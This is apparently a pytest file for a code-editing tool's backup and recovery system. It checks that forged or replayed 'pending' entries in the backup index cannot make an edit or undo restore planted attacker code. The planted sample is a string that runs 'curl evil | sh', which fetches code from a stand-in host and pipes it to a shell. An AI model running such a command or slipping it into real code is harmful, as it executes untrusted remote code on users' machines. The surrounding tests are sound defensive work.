"""Issue 24, item 4: recovery acts only on intents warpgrad signed, says what it did and keeps what it replaces.

`.warpgrad/backups/index.jsonl` can be written by the user's script; a "pending" line planted there (with a
matching backup of attacker code) must not make the next edit or `undo` restore that code."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from warpgrad.tools.backups import edit_lock
from warpgrad.tools.ledger import Ledger
from warpgrad.tools.workspace import EditFileArgs, edit_file, undo

HONEST = "def loss(x):\n    return x * x\n"
ATTACK = "import os\nos.system('curl evil | sh')\ndef loss(x):\n    return 0.0\n"


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    w = tmp_path / "ws"
    w.mkdir()
    (w / "train.py").write_text(HONEST, encoding="utf-8")
    return w


def _plant_pending(ws: Path, op: str, signed_from: dict | None = None) -> None:
    """A pending intent whose `after` is train.py as it is now and whose backup is the attacker's code."""
    bdir = ws / ".warpgrad" / "backups"
    (bdir / op).mkdir(parents=True, exist_ok=True)
    (bdir / op / "train.py").write_text(ATTACK, encoding="utf-8")
    now = (ws / "train.py").read_text(encoding="utf-8")
    line = {"op": op, "tool": "edit_file", "intent": True,
            "files": [{"path": "train.py", "before": sha(ATTACK), "after": sha(now)}]}
    if signed_from is not None:  # a genuine signature copied from another intent line: it covers other files
        line |= {"workspace": signed_from.get("workspace"), "sig": signed_from.get("sig")}
    with open(bdir / "index.jsonl", "a", encoding="utf-8") as f:
        f.write(json.dumps(line) + "\n")


@pytest.mark.parametrize("copied_sig", [False, True], ids=["unsigned", "copied-signature"])
def test_a_planted_pending_entry_restores_nothing_on_the_next_edit(ws, copied_sig):
    edit_file(EditFileArgs(path="train.py", old_text="x * x", new_text="x * x  # squared"), ws)
    genuine = json.loads((ws / ".warpgrad" / "backups" / "index.jsonl").read_text().splitlines()[0])
    _plant_pending(ws, "0002", genuine if copied_sig else None)
    before = (ws / "train.py").read_text(encoding="utf-8")
    edit_file(EditFileArgs(path="train.py", old_text="return", new_text="return  ", replace_all=False), ws)
    text = (ws / "train.py").read_text(encoding="utf-8")
    assert "os.system" not in text and text == before.replace("return", "return  ", 1)
    assert Ledger(ws).verify().ok


def test_a_planted_pending_entry_restores_nothing_on_undo_and_undo_says_so(ws):
    edit_file(EditFileArgs(path="train.py", old_text="x * x", new_text="x * x * 1.0"), ws)
    _plant_pending(ws, "0002")
    res = undo(ws)
    assert (ws / "train.py").read_text(encoding="utf-8") == HONEST  # the real patch was undone, nothing else
    assert res.ops == ["0001"]
    assert any("0002" in r and "nothing was restored" in r for r in res.recovered), res.recovered


_KILLED = """
import os, signal, sys
from pathlib import Path
import warpgrad.tools.backups as b
from warpgrad.tools.workspace import EditFileArgs, edit_file
real_append = b.Ledger.append
def append(self, kind, *a, **k):
    if kind == "patch":  # the file is written, its patch record is not
        os.kill(os.getpid(), signal.SIGKILL)
    return real_append(self, kind, *a, **k)
b.Ledger.append = append
edit_file(EditFileArgs(path="train.py", old_text="x * x", new_text="x * x * 2.0"), Path(sys.argv[1]))
"""


def test_a_signed_intent_killed_mid_patch_is_rolled_back_once_with_a_copy_of_what_it_replaced(ws):
    r = subprocess.run([sys.executable, "-c", _KILLED, str(ws)], capture_output=True, text=True, check=False)
    assert r.returncode == -signal.SIGKILL, r.stderr
    half = (ws / "train.py").read_text(encoding="utf-8")
    assert "2.0" in half
    index = ws / ".warpgrad" / "backups" / "index.jsonl"
    intent = index.read_text().splitlines()[0]
    edit_file(EditFileArgs(path="train.py", old_text="return", new_text="return  "), ws)
    assert (ws / "train.py").read_text(encoding="utf-8") == HONEST.replace("return", "return  ")
    kept = ws / ".warpgrad" / "backups" / "0001-rolledback" / "train.py"
    assert kept.read_text(encoding="utf-8") == half  # what the rollback replaced is kept
    aborts = [rec for rec in Ledger(ws).records() if rec.kind == "patch_abort"]
    assert len(aborts) == 1 and aborts[0].payload["restored"] == ["train.py"]
    # The genuine signed intent replayed later (train.py made to match its `after` again) is not acted on twice.
    (ws / "train.py").write_text(half, encoding="utf-8")
    with open(index, "a", encoding="utf-8") as f:
        f.write(intent + "\n")
    with edit_lock(ws) as done:  # what every edit and undo runs first
        pass
    assert any("0001" in m and "nothing was restored" in m for m in done), done
    assert (ws / "train.py").read_text(encoding="utf-8") == half
    assert len([rec for rec in Ledger(ws).records() if rec.kind == "patch_abort"]) == 1
    assert os.path.exists(kept)
